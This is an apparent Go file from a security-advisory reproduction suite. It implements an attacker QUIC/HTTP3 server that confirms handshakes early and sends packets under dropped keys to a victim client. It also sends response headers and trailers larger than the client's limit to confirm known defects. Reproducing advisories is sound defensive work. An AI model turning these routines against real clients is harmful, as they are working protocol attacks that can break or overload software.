package advisory

import (
	"fmt"

	"github.com/matrixrun/matrixrun/matrix/suites/advisories/repro/attacker"
	"github.com/matrixrun/matrixrun/matrix/suites/advisories/repro/h3"
	"github.com/matrixrun/matrixrun/matrix/suites/advisories/repro/victim"
	"github.com/matrixrun/matrixrun/matrix/suites/advisories/repro/wire"
)

// Attempts is how often confirmEarly attacks: until v0.36 it depends on how fast the
// client's TLS is whether one attempt has an effect.
const Attempts = 400

// confirmEarly attacks the connections of a client that dials again and again.
func confirmEarly(t *trial, s *attacker.Server) error {
	for ; t.proof.Attempts < Attempts; t.proof.Attempts++ {
		if err := confirmOnce(t, s); err != nil {
			return err
		}
	}
	t.proof.Delivered = true
	return nil
}

// confirmOnce confirms the handshake in the datagram with the server's part of it, so
// that the client never sends a Handshake packet of its own and keeps the keys of Initial
// packets. Then it sends a packet whose keys the client has dropped. Datagrams stay in
// order on loopback, so what the client does after that shows that it has survived.
func confirmOnce(t *trial, s *attacker.Server) error {
	c, err := s.Accept(t.ctx, Protocol, []byte{wire.TypeHandshakeDone})
	if err != nil {
		return err
	}
	if err := c.Send(wire.Handshake, []byte{wire.TypePing}); err != nil {
		return err
	}
	data, err := c.Serve(t.ctx, 0)
	if err != nil {
		return err
	}
	return answer(t, c, data)
}

// asked accepts a connection of an echo client, and returns what the client asks.
func asked(t *trial, s *attacker.Server) (*attacker.Conn, []byte, error) {
	c, err := s.Accept(t.ctx, Protocol, nil)
	if err != nil {
		return nil, nil, err
	}
	data, err := c.Serve(t.ctx, 0)
	return c, data, err
}

// answer answers an echo client, and waits until the client says that it has the answer.
// To wait for the acknowledgement would take in, and drop, how the next connection begins.
func answer(t *trial, c *attacker.Conn, data []byte) error {
	if err := c.Send(wire.OneRTT, wire.AppendStream(nil, 0, 0, data, true)); err != nil {
		return err
	}
	_, err := t.victim.Await(func(e victim.Event) bool { return e.Answered == string(data) })
	return err
}

// largeResponseHeaders answers a request with headers that are larger than the client
// allows.
func largeResponseHeaders(t *trial, s *attacker.Server) error {
	return respond(t, s, append(h3.Response(largeFields), h3.Data([]byte("body"))...), func(e victim.Event) int { return e.Headers })
}

// largeResponseTrailers answers a request with such trailers.
func largeResponseTrailers(t *trial, s *attacker.Server) error {
	message := append(h3.Response(0), h3.Data([]byte("body"))...)
	return respond(t, s, append(message, h3.Trailers(largeFields)...), func(e victim.Event) int { return e.Trailers })
}

// respond answers a request of the victim. If the victim gives its application more than
// MaxHeaderBytes, that is the defect.
func respond(t *trial, s *attacker.Server, message []byte, size func(victim.Event) int) error {
	t.proof.Limit, t.proof.Sent = MaxHeaderBytes, largeFields*h3.EncodedSize
	const control = 3 // the first unidirectional stream of a server
	answer := func(message []byte) error {
		c, err := s.Accept(t.ctx, attacker.H3, nil)
		if err == nil {
			_, err = c.Serve(t.ctx, 0)
		}
		if err == nil {
			err = c.Write(t.ctx, control, h3.Control(), false)
		}
		if err == nil {
			err = c.Write(t.ctx, 0, message, true)
		}
		return ignoreClose(err)
	}
	if err := answer(message); err != nil {
		return err
	}
	e, err := t.victim.Await(func(e victim.Event) bool { return e.Handled == AttackPath })
	if err != nil {
		return err
	}
	t.proof.Delivered, t.proof.Decoded = true, size(e)
	if t.proof.Decoded > MaxHeaderBytes {
		t.found = fmt.Sprintf("the client decoded %d bytes of fields and gave them to its application, where it allows %d", t.proof.Decoded, MaxHeaderBytes)
		return nil
	}
	if err := answer(append(h3.Response(0), h3.Data([]byte("body"))...)); err != nil {
		return err
	}
	_, err = t.victim.Await(func(e victim.Event) bool { return e.Handled == HonestPath && e.ReadError == "" })
	return err
}
